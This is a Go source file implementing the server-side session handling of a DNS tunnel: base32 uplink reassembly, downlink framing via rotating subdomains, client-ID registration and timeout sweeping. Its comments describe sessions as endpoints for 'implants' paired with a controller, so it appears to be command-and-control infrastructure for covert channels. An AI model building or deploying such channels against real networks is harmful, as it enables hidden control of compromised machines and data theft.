package tunnel

import (
	"encoding/base32"
	"strings"
	"sync"
	"time"

	"github.com/miekg/dns"
	"github.com/rs/zerolog/log"
)

// Session states.
const (
	StateInitial = iota + 1
	StateIncomingData
)

// sessionPeer is the Session's narrow view of its paired controller
// connection. Keeping this interface here (rather than importing package
// controller) keeps the dependency pointing the same direction as the
// teacher's server -> protocol import.
type sessionPeer interface {
	// Polling notifies the peer that server_queue gained a frame.
	Polling()
	// OnClientTimeout notifies the peer that this session was reaped.
	OnClientTimeout()
}

const queueDepth = 256

// Session is the per-implant tunnel endpoint. One Session exists per
// registered client_id; it is shared between the DNS-handling goroutines
// that drive it and the controller goroutine that reads/writes its queues,
// so all field access outside the queues goes through mu.
type Session struct {
	mu sync.Mutex

	Domain string

	state               int
	received            *PartedData
	lastReceivedIndex   int
	padding             int
	subDomain           string
	sendData            *BlockSizedData
	peer                sessionPeer
	clientID            byte
	serverID            string
	registerForServerNeeded bool
	ts                  int64

	// serverQueue carries decoded uplink frames to the controller.
	serverQueue chan []byte
	// clientQueue carries raw downlink frames from the controller.
	clientQueue chan []byte
}

// NewSession creates a fresh session scoped to domain, in StateInitial.
func NewSession(domain string) *Session {
	return &Session{
		Domain:            domain,
		state:             StateInitial,
		received:          NewPartedData(0),
		lastReceivedIndex: -1,
		subDomain:         "aaaa",
		serverQueue:       make(chan []byte, queueDepth),
		clientQueue:       make(chan []byte, queueDepth),
	}
}

// Touch records the current time as the last activity timestamp; called by
// the dispatcher on every successfully resolved request.
func (s *Session) Touch() {
	s.mu.Lock()
	s.ts = time.Now().Unix()
	s.mu.Unlock()
}

// LastSeen returns the UNIX timestamp of the last request, used by the
// timeout sweeper.
func (s *Session) LastSeen() int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.ts
}

// ClientID returns the single-character ID this session was assigned.
func (s *Session) ClientID() byte {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.clientID
}

// ServerID returns the rendezvous string chosen at registration.
func (s *Session) ServerID() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.serverID
}

// SetPeer attaches or clears (nil) the paired controller connection.
func (s *Session) SetPeer(p sessionPeer) {
	s.mu.Lock()
	s.peer = p
	s.mu.Unlock()
}

// IsIdle reports whether this session holds no paired controller and has no
// in-flight (incomplete) uplink reassembly -- the condition the registry's
// deferred unregistration waits for before actually freeing the client_id.
func (s *Session) IsIdle() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.peer == nil && s.received.IsComplete()
}

// RegisterClient allocates a client_id from reg's pool for server_id, arms
// register_for_server_needed, and returns the registration (or finish-send
// if the pool is exhausted).
func (s *Session) RegisterClient(reg *Registry, serverID string, enc Encoder) []dns.RR {
	clientID, ok := reg.RequestClientID(s)
	s.mu.Lock()
	defer s.mu.Unlock()
	if !ok {
		log.Warn().Str("server_id", serverID).Msg("tunnel: no free client ids, sending finish_send")
		return enc.EncodeFinishSend()
	}
	s.clientID = clientID
	s.serverID = serverID
	s.registerForServerNeeded = true
	log.Info().Str("server_id", serverID).Str("client_id", string(clientID)).Msg("tunnel: registered new session")
	return enc.EncodeRegistration(clientID, 0)
}

func (s *Session) setupReceiveLocked(expectedSize, padding int) {
	s.state = StateIncomingData
	s.received.Reset(expectedSize)
	s.lastReceivedIndex = -1
	s.padding = padding
}

func (s *Session) initialStateLocked() {
	s.state = StateInitial
	s.received.Reset(0)
	s.lastReceivedIndex = -1
	s.padding = 0
}

// IncomingDataHeader begins (or confirms a duplicate of) an uplink upload.
func (s *Session) IncomingDataHeader(dataSize, padding int, enc Encoder) []dns.RR {
	s.mu.Lock()
	defer s.mu.Unlock()

	if s.state == StateIncomingData && s.received.ExpectedSize() == dataSize {
		log.Debug().Int("size", dataSize).Msg("tunnel: duplicate upload header")
		return enc.EncodeReadyReceive()
	}
	if s.state == StateIncomingData {
		log.Warn().Int("size", dataSize).Msg("tunnel: upload header size mismatch mid-transfer")
		return nil
	}
	log.Info().Int("size", dataSize).Int("padding", padding).Msg("tunnel: starting uplink reassembly")
	s.setupReceiveLocked(dataSize, padding)
	return enc.EncodeReadyReceive()
}

// IncomingData appends one uplink chunk, completing and enqueueing the
// frame onto serverQueue once the reassembly buffer fills.
func (s *Session) IncomingData(data []byte, index int, enc Encoder) []dns.RR {
	s.mu.Lock()
	defer s.mu.Unlock()

	if s.state != StateIncomingData {
		log.Warn().Msg("tunnel: uplink chunk outside INCOMING_DATA state")
		return enc.EncodeFinishSend()
	}
	if len(data) == 0 {
		log.Warn().Msg("tunnel: empty uplink chunk")
		return enc.EncodeFinishSend()
	}
	if s.lastReceivedIndex >= index {
		log.Debug().Int("index", index).Msg("tunnel: duplicate uplink chunk")
		return enc.EncodeSendMoreData()
	}
	if err := s.received.AddPart(data); err != nil {
		log.Error().Err(err).Msg("tunnel: uplink reassembly overflow")
		s.initialStateLocked()
		return enc.EncodeFinishSend()
	}
	s.lastReceivedIndex = index

	if s.received.IsComplete() {
		raw := strings.ToUpper(string(s.received.Data())) + strings.Repeat("=", s.padding)
		decoded, err := base32.StdEncoding.DecodeString(raw)
		if err != nil {
			log.Error().Err(err).Msg("tunnel: base32 decode of completed upload failed")
			s.initialStateLocked()
			return enc.EncodeFinishSend()
		}
		select {
		case s.serverQueue <- decoded:
		default:
			log.Error().Msg("tunnel: server_queue full, dropping completed uplink frame")
		}
		s.initialStateLocked()
		if s.peer != nil {
			s.peer.Polling()
		}
	}
	return enc.EncodeSendMoreData()
}

// RequestDataHeader implements the poll/advance half of the downlink
// protocol; see spec.md §4.3.
func (s *Session) RequestDataHeader(reg *Registry, subDom string, enc Encoder) []dns.RR {
	s.mu.Lock()
	if subDom != s.subDomain {
		log.Debug().Str("got", subDom).Str("want", s.subDomain).Msg("tunnel: poll cursor mismatch, implant restarting cycle")
		if subDom == "aaaa" {
			log.Warn().Str("server_id", s.serverID).Msg("tunnel: MIGRATION detected")
		}
		s.subDomain = subDom
		s.sendData = nil
		s.mu.Unlock()
		return nil
	}

	needsRegister := s.registerForServerNeeded
	serverID := s.serverID
	s.registerForServerNeeded = false
	s.mu.Unlock()

	if needsRegister {
		reg.RegisterClientForServer(serverID, s)
	}

	s.mu.Lock()
	defer s.mu.Unlock()

	if s.sendData == nil {
		select {
		case data := <-s.clientQueue:
			s.sendData = NewBlockSizedData(data, enc.MaxPacketSize())
			log.Debug().Int("size", len(data)).Msg("tunnel: new downlink frame staged")
		default:
		}
	}

	dataSize := 0
	advertised := s.subDomain
	if s.sendData != nil {
		advertised = nextSubdomain(s.subDomain)
		s.subDomain = advertised
		dataSize = s.sendData.Size()
	}
	return enc.EncodeDataHeader(advertised, dataSize)
}

// RequestData returns one indexed block of the currently staged downlink
// frame, or nil on a protocol violation (stale cursor, no staged data, or
// an out-of-range index).
func (s *Session) RequestData(subDom string, index int, enc Encoder) []dns.RR {
	s.mu.Lock()
	defer s.mu.Unlock()

	if subDom != s.subDomain {
		log.Warn().Str("got", subDom).Str("want", s.subDomain).Msg("tunnel: request_data cursor mismatch")
		return nil
	}
	if s.sendData == nil {
		log.Warn().Msg("tunnel: request_data with nothing staged")
		return nil
	}
	_, chunk, err := s.sendData.Get(index)
	if err != nil {
		log.Warn().Err(err).Msg("tunnel: request_data index out of range")
		return nil
	}
	rrs, err := enc.EncodePacket(chunk)
	if err != nil {
		log.Error().Err(err).Msg("tunnel: encode_packet failed")
		return nil
	}
	return rrs
}

// ServerPutData enqueues a downlink frame delivered by the controller.
func (s *Session) ServerPutData(data []byte) {
	select {
	case s.clientQueue <- data:
	default:
		log.Error().Msg("tunnel: client_queue full, dropping downlink frame")
	}
}

// ServerGetData blocks up to timeout for an uplink frame destined for the
// controller; used by the controller's write path.
func (s *Session) ServerGetData(timeout time.Duration) []byte {
	select {
	case data := <-s.serverQueue:
		return data
	case <-time.After(timeout):
		return nil
	}
}

// ServerHasData reports whether an uplink frame is waiting, non-blocking.
func (s *Session) ServerHasData() bool {
	return len(s.serverQueue) > 0
}

// OnTimeout notifies and detaches the paired controller, called by the
// registry's timeout sweep once a session has been idle too long.
func (s *Session) OnTimeout() {
	s.mu.Lock()
	peer := s.peer
	s.peer = nil
	s.mu.Unlock()
	if peer != nil {
		peer.OnClientTimeout()
	}
}
